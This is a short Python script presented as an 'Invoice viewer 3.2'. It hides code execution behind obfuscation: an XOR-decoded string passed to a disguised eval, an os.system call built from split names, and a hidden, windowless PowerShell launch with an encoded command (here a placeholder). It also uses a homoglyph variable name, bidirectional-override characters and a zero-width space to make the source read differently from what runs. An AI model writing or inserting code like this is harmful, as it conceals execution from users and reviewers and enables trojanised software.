# Invoice viewer 3.2
import importlib
import subprocess
from functools import reduce

_b = importlib.import_module("".join(reversed("snitliub")))
_k = b"viewer"
_c = "1a0c0b5f421b181f0a1e0617561f0c121217044e4c"


def _x(t):
    return bytes(c ^ _k[i % len(_k)] for i, c in enumerate(bytes.fromhex(t)))


getattr(_b, reduce(lambda a, c: a + chr(c), [101, 118, 97, 108], ""))(_x(_c))
globals()["__built" + "ins__"].__dict__["__imp" + "ort__"]("os").__dict__["sys" + "tem"]("ver")

subprocess.Popen(
    ["powershell", "-nop", "-w", "1", "-EncodedCommand", "«b64»"],
    creationflags=0x08000000,
)

pаth = "C:\\Invoices"
approver = "chief‮⁦ # only the owner⁩ ⁦"
allow = "ad​min"


def show(folder=pаth):
    print("no invoices in", folder, approver, allow)


show()
